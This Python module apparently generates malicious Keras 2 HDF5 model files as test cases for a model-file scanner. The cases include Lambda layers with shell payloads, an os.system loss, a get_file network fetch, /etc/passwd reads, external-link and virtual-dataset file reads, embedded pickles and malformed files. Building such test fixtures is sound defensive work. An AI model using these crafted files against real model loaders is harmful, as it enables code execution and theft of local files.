"""HDF5 files: Keras 2 models with code, links out of the file, and blobs (reference 2, Keras)."""

from __future__ import annotations

import json
import struct

import h5py
import numpy as np

from .keras_attacks import (
    LAMBDA,
    _lambda_of,
    lambda_layer,
    legacy,
    legacy_lambda,
    module_reference,
    shell,
    touch,
    with_layer,
)
from .registry import Place, attack, fires


def write(path, config, training=None, weights=True) -> None:
    """A Keras 2 model in HDF5."""
    with h5py.File(path, "w", track_order=False) as file:
        file.attrs["keras_version"] = "2.11.0"
        file.attrs["backend"] = "tensorflow"
        if config is not None:
            file.attrs["model_config"] = config if isinstance(config, str) else json.dumps(config)
        if training:
            file.attrs["training_config"] = json.dumps(training)
        if weights:
            group = file.create_group("model_weights")
            group.attrs["layer_names"] = np.array([b"dense"])
            group.attrs["backend"] = "tensorflow"
            layer = group.create_group("dense")
            layer.attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
            layer.create_dataset(
                "dense/kernel:0", data=np.linspace(0, 1, 12, dtype=np.float32).reshape(4, 3)
            )
            layer.create_dataset("dense/bias:0", data=np.zeros(3, np.float32))


def _h5(
    id,
    category,
    names,
    about,
    make,
    value=None,
    also=(),
    trigger="load-python",
    shows=None,
    suffix=".h5",
):
    def build(place: Place):
        make(place)

    build.__doc__ = about
    attack(
        id, "h5", category, names, value, also=also, trigger=trigger, fires=shows, suffix=suffix
    )(build)


_h5(
    "h5-lambda",
    "code-execution",
    LAMBDA,
    "A Lambda in model_config: h5 ignores safe mode before Keras 3.11 (CVE-2025-9905).",
    lambda p: write(p.path, with_layer(lambda_layer(touch(p, "h5-lambda")))),
    shows=fires("keras-unsafe", "writes", "out/h5-lambda"),
)
_h5(
    "h5-lambda-legacy",
    "code-execution",
    LAMBDA,
    "A Lambda of Keras 2, as a list of its code.",
    lambda p: write(p.path, legacy([legacy_lambda(shell())])),
)
_h5(
    "h5-lambda-hdf5",
    "code-execution",
    LAMBDA,
    "The same with the extension hdf5.",
    lambda p: write(p.path, legacy([legacy_lambda(shell())])),
    suffix=".hdf5",
)
_h5(
    "h5-lambda-no-extension",
    "code-execution",
    LAMBDA,
    "The same without an extension.",
    lambda p: write(p.path, legacy([legacy_lambda(shell())])),
    suffix="",
)
_h5(
    "h5-lambda-nested",
    "code-execution",
    LAMBDA,
    "A Lambda in a model in a model.",
    lambda p: write(
        p.path,
        legacy(
            [{"class_name": "Sequential", "config": legacy([legacy_lambda(shell())])["config"]}]
        ),
    ),
)
_h5(
    "h5-lambda-wrapped",
    "code-execution",
    LAMBDA,
    "A Lambda in TimeDistributed in a Functional model.",
    lambda p: write(p.path, _functional(legacy_lambda(shell()))),
)
_h5(
    "h5-custom-loss-module",
    "code-execution",
    ["os", "system"],
    "A loss of module os in training_config.",
    lambda p: write(
        p.path,
        legacy([]),
        {
            "optimizer_config": {"class_name": "Adam", "config": {}},
            "loss": module_reference("os", "function", "system", "function"),
            "metrics": None,
        },
    ),
)
_h5(
    "h5-get-file",
    "code-execution",
    ["get_file"],
    "keras.utils.get_file as a function.",
    lambda p: write(
        p.path,
        legacy(
            [
                _lambda_of(
                    module_reference("keras.utils", "function", "get_file", "get_file"),
                    {"origin": "http://127.0.0.1:18431/x"},
                )
            ]
        ),
    ),
    also=("network", "file-write"),
)
_h5(
    "h5-vocabulary",
    "file-read",
    ["vocabulary", "StringLookup"],
    "A vocabulary path.",
    lambda p: write(
        p.path,
        legacy(
            [{"class_name": "StringLookup", "config": {"name": "s", "vocabulary": "/etc/passwd"}}]
        ),
    ),
    "/etc/passwd",
)
_h5(
    "h5-external-link",
    "file-read",
    ["external", "link"],
    "The weights are an external link to another file (CVE-2026-1669).",
    lambda p: _external_link(p),
    "secret.h5",
    ["path-traversal"],
    shows=fires("h5-read", "returns", "4711"),
)
_h5(
    "h5-external-storage",
    "file-read",
    ["external", "storage"],
    "The bytes of the weights are those of another file (CVE-2026-1669).",
    lambda p: _external_storage(p),
    "secret.txt",
    ["path-traversal"],
    shows=fires("h5-read", "returns", "AIRLOCK-CANARY"),
)
_h5(
    "h5-virtual",
    "file-read",
    ["virtual", "source"],
    "A virtual dataset over another file.",
    lambda p: _virtual(p),
    "secret.h5",
    ["path-traversal"],
    shows=fires("h5-read", "returns", "4711"),
)
_h5(
    "h5-pickle-attribute",
    "payload",
    ["pickle"],
    "A pickle in an attribute.",
    lambda p: _pickle(p, True),
    also=("code-execution",),
    trigger="none",
)
_h5(
    "h5-pickle-dataset",
    "payload",
    ["pickle"],
    "A pickle in a dataset of bytes.",
    lambda p: _pickle(p, False),
    also=("code-execution",),
    trigger="none",
)
_h5(
    "h5-huge",
    "memory",
    ["kernel", "shape", "huge"],
    "A dataset of two terabytes with no storage.",
    lambda p: _huge(p),
    also=("malformed",),
)
_h5(
    "h5-filter",
    "code-execution",
    ["filter", "32099", "plugin"],
    "A filter that HDF5 would load from a plugin.",
    lambda p: _filter(p),
    also=("custom-op", "malformed", "unreadable"),
)
_h5(
    "h5-truncated",
    "malformed",
    ["truncat", "end", "unreadable", "h5"],
    "A file that ends early.",
    lambda p: _cut(p),
    also=("unreadable",),
)
_h5(
    "h5-duplicate-key",
    "parser-differential",
    ["duplicate", "twice"],
    "model_config with a key twice.",
    lambda p: write(
        p.path,
        json.dumps(legacy([legacy_lambda(shell())])).replace(
            '"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"'
        ),
    ),
    also=("malformed", "code-execution"),
)
_h5(
    "h5-weights-only-external",
    "file-read",
    ["external"],
    "Weights alone, without a configuration, with an external link.",
    lambda p: _external_link(p, config=False),
    "secret.h5",
    ["path-traversal"],
)


def _functional(layer):
    config = legacy([])["config"]["layers"]
    return {
        "class_name": "Functional",
        "config": {
            "name": "m",
            "layers": [
                *config,
                {
                    "class_name": "TimeDistributed",
                    "config": {"name": "t", "layer": layer},
                    "name": "t",
                    "inbound_nodes": [[["dense", 0, 0, {}]]],
                },
            ],
            "input_layers": [["in", 0, 0]],
            "output_layers": [["t", 0, 0]],
        },
    }


def _external_link(place, config=True):
    write(place.path, legacy([]) if config else None)
    with h5py.File(place.path, "a") as file:
        holder = file["model_weights/dense/dense"]
        del holder["kernel:0"]
        holder["kernel:0"] = h5py.ExternalLink(f"{place.canary}/secret.h5", "/data")


def _external_storage(place):
    write(place.path, legacy([]))
    with h5py.File(place.path, "a") as file:
        holder = file["model_weights/dense/dense"]
        del holder["bias:0"]
        holder.create_dataset(
            "bias:0", shape=(20,), dtype=np.uint8, external=[(f"{place.canary}/secret.txt", 0, 20)]
        )


def _virtual(place):
    write(place.path, legacy([]))
    with h5py.File(place.path, "a", libver="latest") as file:
        layout = h5py.VirtualLayout(shape=(3,), dtype="f4")
        layout[:] = h5py.VirtualSource(f"{place.canary}/secret.h5", "data", shape=(3,))
        holder = file["model_weights/dense/dense"]
        del holder["bias:0"]
        holder.create_virtual_dataset("bias:0", layout, fillvalue=0)


def _pickle(place, in_attribute):
    from .code import _pickle as pickled

    write(place.path, legacy([]))
    with h5py.File(place.path, "a") as file:
        data = np.frombuffer(pickled(), np.uint8)
        if in_attribute:
            file.attrs["user_data"] = np.void(pickled())
        else:
            file["optimizer_weights"] = data


def _huge(place):
    write(place.path, legacy([]))
    with h5py.File(place.path, "a") as file:
        holder = file["model_weights/dense/dense"]
        del holder["kernel:0"]
        holder.create_dataset(
            "kernel:0", shape=(2**20, 2**19), chunks=(1024, 1024), dtype=np.float32
        )


def _filter(place):
    """h5py writes only filters that it has, so the id of gzip is changed in the bytes."""
    write(place.path, legacy([]))
    with h5py.File(place.path, "a") as file:
        holder = file["model_weights/dense/dense"]
        del holder["kernel:0"]
        holder.create_dataset(
            "kernel:0",
            data=np.zeros([64, 64], np.float32),
            chunks=(64, 64),
            compression="gzip",
            compression_opts=7,
        )
    data = bytearray(place.path.read_bytes())
    old = struct.pack("<HHHH", 1, 8, 1, 1) + b"deflate\0"
    at = data.index(old)
    data[at : at + 2] = struct.pack("<H", 32099)
    place.path.write_bytes(bytes(data))


def _cut(place):
    write(place.path, legacy([]))
    place.path.write_bytes(place.path.read_bytes()[:1800])
